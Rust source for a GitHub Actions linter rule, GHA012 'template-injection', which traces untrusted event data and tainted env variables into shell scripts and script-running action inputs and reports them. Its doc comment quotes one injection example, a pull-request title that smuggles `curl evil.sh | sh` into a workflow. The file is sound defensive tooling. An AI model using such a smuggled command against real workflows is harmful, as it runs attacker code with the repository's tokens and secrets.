use plimsoll_actions::schema::{script_input, untrusted_context, UntrustedContext};
use plimsoll_actions::Workflow;
use plimsoll_syntax::yaml::Node;

use super::common::{action_slug, expression_paths, ValueSpans};
use crate::declare_rule;
use crate::finding::{RuleMeta, Severity, Sink};
use crate::rule::{Context, Rule, StepScope};

declare_rule! {
    /// ## What it does
    /// Flags `${{ }}` expressions that expand attacker-controlled data into code:
    ///
    /// - event data an outside contributor writes (issue, pull request, review, comment and
    ///   discussion titles and bodies, branch names and `owner:branch` labels, commit messages,
    ///   author names and e-mails, wiki page names, `github.head_ref`, the `workflow_run`
    ///   fields copied from the triggering run), named with the triggers that carry it;
    /// - the same data read back through an environment variable set from it at workflow, job
    ///   or step level (`env: {T: ${{ github.event.issue.title }}}`, then `${{ env.T }}`);
    /// - in a composite action, `${{ inputs.x }}`: the action cannot know what its callers pass,
    ///   and a workflow that forwards an issue title makes it injectable (a note: most inputs are
    ///   configuration);
    ///
    /// into a `run:` script or an input that well-known actions run as code
    /// (`actions/github-script` `script`, `azure/cli` `inlineScript`, `Amadevus/pwsh-script`
    /// `script`, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `nick-fields/retry`
    /// `command`, …).
    ///
    /// ## Why is this bad?
    /// The expression is pasted into the script before the shell sees it. A pull request titled
    /// `"; curl evil.sh | sh; #` runs that command in your workflow, with its token and secrets.
    /// An environment variable set with `${{ }}` and expanded again with `${{ env.T }}` is the
    /// same paste.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// Pass the value through an environment variable and let the shell read it (`$TITLE`, not
    /// `${{ env.TITLE }}`), which the shell treats as data:
    /// ```yaml
    /// - run: echo "Title: $TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    pub struct TemplateInjection {
        id: "GHA012",
        name: "template-injection",
        severity: Error,
        domain: GithubActions,
        summary: "Untrusted data is expanded into a script",
        help: "pass the value through `env:` and use the variable (`\"$TITLE\"`) in the script",
    }
}

/// Where the script is: which events can reach it.
enum Reach<'a> {
    /// A workflow, with its triggers.
    Workflow(Workflow<'a>),
    /// A composite action: its callers' events.
    Composite,
}

impl Reach<'_> {
    /// How `context` reaches the script, for messages.
    fn describe(&self, context: &UntrustedContext) -> String {
        let Reach::Workflow(workflow) = self else {
            return "reachable through the calling workflow's event".to_string();
        };
        let triggers = workflow.triggers();
        let mut carried: Vec<&str> = triggers
            .iter()
            .map(|t| t.event)
            .filter(|event| context.events.contains(event))
            .collect();
        carried.dedup();
        if !carried.is_empty() {
            let names: Vec<String> = carried.iter().map(|e| format!("`{e}`")).collect();
            return format!("reachable on {}", names.join(", "));
        }
        if triggers.iter().any(|t| t.event == "workflow_call") {
            return "reachable through the calling workflow's event".to_string();
        }
        let names: Vec<String> = context.events.iter().map(|e| format!("`{e}`")).collect();
        format!(
            "set on {}, which this workflow does not run on today",
            names.join(", ")
        )
    }
}

/// What an `env.NAME` read expands, when it was set from untrusted data.
enum Taint {
    /// An attacker-controlled context.
    Context(&'static UntrustedContext, String),
    /// A composite action's input.
    Input(String),
}

/// The first untrusted thing `value` (an `env:` value) expands.
fn taint_of(value: &Node, composite: bool) -> Option<Taint> {
    expression_paths(value.as_str()?)
        .into_iter()
        .find_map(|used| {
            if let Some(context) = untrusted_context(&used.path) {
                return Some(Taint::Context(context, used.path));
            }
            (composite && is_input(&used.path)).then_some(Taint::Input(used.path))
        })
}

fn is_input(path: &str) -> bool {
    path.get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("inputs."))
}

/// The value of environment variable `name` as the step sees it: step, then job, then workflow
/// `env:` (the innermost definition wins). Expression property names are compared without case,
/// as GitHub does (the analysed path is lowercased).
fn env_value<'a>(scope: &StepScope<'a>, name: &str) -> Option<&'a Node> {
    let levels = [
        Some(scope.step.node),
        scope.job.map(|job| job.node),
        scope.workflow.map(|workflow| workflow.root),
    ];
    levels.into_iter().flatten().find_map(|node| {
        node.get("env")?
            .as_mapping()?
            .iter()
            .find(|entry| {
                entry
                    .key
                    .as_str()
                    .is_some_and(|key| key.eq_ignore_ascii_case(name))
            })
            .map(|entry| &entry.value)
    })
}

fn check_script(
    cx: &Context<'_>,
    scope: &StepScope<'_>,
    reach: &Reach<'_>,
    node: &Node,
    what: &str,
    out: &mut Sink,
) {
    let Some(text) = node.as_str() else {
        return;
    };
    let composite = matches!(reach, Reach::Composite);
    let mut spans = ValueSpans::new(node);
    for used in expression_paths(text) {
        let path = &used.path;
        // Messages quote the path as written (`env.ISSUE_TITLE`, `pages[0]`); the analysed path
        // is lowercased, with indexes as `*`.
        let shown = used.written;
        let (message, severity) = if let Some(context) = untrusted_context(path) {
            (
                format!(
                    "`{shown}` is written by {}, {}; it is pasted into {what}",
                    context.author,
                    reach.describe(context)
                ),
                Severity::Error,
            )
        } else if composite && is_input(path) {
            (
                    format!(
                        "`{shown}` is whatever the calling workflow passes (an issue title or a branch name, if it forwards one); it is pasted into {what}"
                    ),
                    Severity::Note,
                )
        } else if let Some(name) = path
            .get(..4)
            .filter(|p| p.eq_ignore_ascii_case("env."))
            .map(|_| &path[4..])
        {
            let taint = env_value(scope, name).and_then(|value| taint_of(value, composite));
            match taint {
                    Some(Taint::Context(context, source)) => (
                        format!(
                            "`{shown}` holds `{source}`, written by {}, {}; it is pasted into {what}",
                            context.author,
                            reach.describe(context)
                        ),
                        Severity::Error,
                    ),
                    Some(Taint::Input(source)) => (
                        format!(
                            "`{shown}` holds `{source}`, whatever the calling workflow passes; it is pasted into {what}"
                        ),
                        Severity::Note,
                    ),
                    None => continue,
                }
        } else {
            continue;
        };
        let span = spans.locate(cx.text(), used.range.clone());
        let diagnostic = out.report(&TemplateInjection::META, span, message);
        // Only the caller-dependent findings are lowered (most inputs are configuration,
        // never attacker text: 244 of them in the corpus, none reachable from an event); the
        // others keep the rule's (configurable) severity.
        if severity == Severity::Note {
            diagnostic.severity(severity);
        }
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_step(&self, cx: &Context<'_>, scope: &StepScope<'_>, out: &mut Sink) {
        // Steps without a workflow are a composite action's (`runs.steps`).
        let reach = match scope.workflow {
            Some(workflow) => Reach::Workflow(workflow),
            None => Reach::Composite,
        };
        if let Some(run) = scope.step.run() {
            check_script(cx, scope, &reach, run, "a shell script", out);
        }
        let Some(uses) = scope.step.uses_node().and_then(Node::as_str) else {
            return;
        };
        let slug = action_slug(uses);
        for input in scope
            .step
            .node
            .get("with")
            .and_then(Node::as_mapping)
            .unwrap_or_default()
        {
            let Some(language) = input.key.as_str().and_then(|key| script_input(&slug, key)) else {
                continue;
            };
            check_script(cx, scope, &reach, &input.value, language, out);
        }
    }
}
